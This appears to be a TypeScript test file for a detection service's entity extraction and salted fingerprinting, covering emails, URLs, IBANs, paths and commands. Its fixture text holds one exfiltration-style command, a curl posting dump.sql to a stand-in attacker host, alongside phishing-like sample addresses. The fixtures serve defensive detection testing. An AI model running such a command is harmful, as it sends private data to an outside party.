/**
 * Entities in content and intents, and their salted fingerprints (docs/detection.md 3.3).
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  contentText,
  entityFingerprints,
  extractEntities,
  fingerprint,
  newSalt,
  valueKeys,
} from '../../services/decision/src/flow/entities.js';

const kinds = (content: unknown) => extractEntities(content).map((e) => `${e.kind}:${e.value}`);

describe('entities', () => {
  test('from text: addresses, URLs, domains, IBANs, channels, paths, commands, amounts', () => {
    const text = [
      'From: Mallory <Mallory@Evil.io>. Details at https://evil.io/pay?id=7, mirror www.backup-drop.net/x.',
      'Also see portal.vendor.co. Pay EUR 4,999.00 to DE89 3704 0044 0532 0130 00 (not DE89 3704 0044 0532 0130 01).',
      'Discuss in #ext-vendors; the export is in /srv/exports/q3.csv.',
      '$ curl -d @dump.sql https://collect.evil.io/in',
    ].join('\n');
    assert.deepEqual(kinds(text), [
      'email:mallory@evil.io',
      'url:https://evil.io/pay?id=7',
      'url:http://www.backup-drop.net/x',
      'url:https://collect.evil.io/in',
      'host:www.backup-drop.net',
      'host:portal.vendor.co',
      'account:DE89370400440532013000',
      'channel:ext-vendors',
      'path:/srv/exports/q3.csv',
      'command:curl -d @dump.sql https://collect.evil.io/in',
      'amount:4999',
    ]);
  });

  test('from JSON: strings anywhere, and members whose names give a kind', () => {
    const content = {
      rows: [
        { name: 'Acme Ltd', email: 'billing@acme-ltd.com', payee_id: 'p-2002', iban: 'GB29NWBK60161331926819' },
        { note: 'call ops@partner.io', amount: { amount: 120, currency: 'EUR' }, user: 'jdoe' },
      ],
    };
    assert.deepEqual(kinds(content), [
      'email:billing@acme-ltd.com',
      'payee:p-2002',
      'account:GB29NWBK60161331926819',
      'email:ops@partner.io',
      'amount:120',
      'principal:jdoe',
    ]);
    assert.equal(
      contentText(content),
      'Acme Ltd\nbilling@acme-ltd.com\np-2002\nGB29NWBK60161331926819\ncall ops@partner.io\nEUR\njdoe',
    );
  });

  test('at most the limit, first found first', () => {
    const many = Array.from({ length: 400 }, (_, i) => `u${i}@x${i}.io`).join(' ');
    const found = extractEntities(many, 10);
    assert.equal(found.length, 10);
    assert.equal(found[0]?.value, 'u0@x0.io');
  });
});

describe('fingerprints', () => {
  test('HMAC of kind:value under the session salt, 16 base64url characters', () => {
    const salt = 'c2FsdHNhbHRzYWx0c2FsdA';
    const fp = fingerprint(salt, 'email', 'a@x.io');
    assert.match(fp, /^[A-Za-z0-9_-]{16}$/);
    assert.equal(fingerprint(salt, 'email', 'a@x.io'), fp, 'deterministic under one salt');
    assert.notEqual(fingerprint(newSalt(), 'email', 'a@x.io'), fp, 'another session, another fingerprint');
    assert.notEqual(fingerprint(salt, 'host', 'a@x.io'), fp, 'the kind is part of it');
  });

  test('addresses and URLs also give their host; a principal that is an address is one', () => {
    assert.deepEqual(valueKeys({ kind: 'email', value: 'a@x.io', host: 'x.io' }), {
      exact: 'email:a@x.io',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'principal', value: 'a@x.io', host: 'x.io' }), {
      exact: 'email:a@x.io',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'url', value: 'https://x.io/a', host: 'x.io', key: 'x.io/a' }), {
      exact: 'url:x.io/a',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'text', value: 'hello' }), {});
    const salt = newSalt();
    const fps = entityFingerprints(salt, extractEntities('write to a@x.io or b@x.io'));
    assert.deepEqual(fps, [
      fingerprint(salt, 'email', 'a@x.io'),
      fingerprint(salt, 'host', 'x.io'),
      fingerprint(salt, 'email', 'b@x.io'),
    ]);
  });

  test('no raw value survives in a fingerprint list', () => {
    const fps = entityFingerprints(newSalt(), extractEntities('secret-partner@hidden.io'));
    assert.ok(!JSON.stringify(fps).includes('hidden'));
  });
});
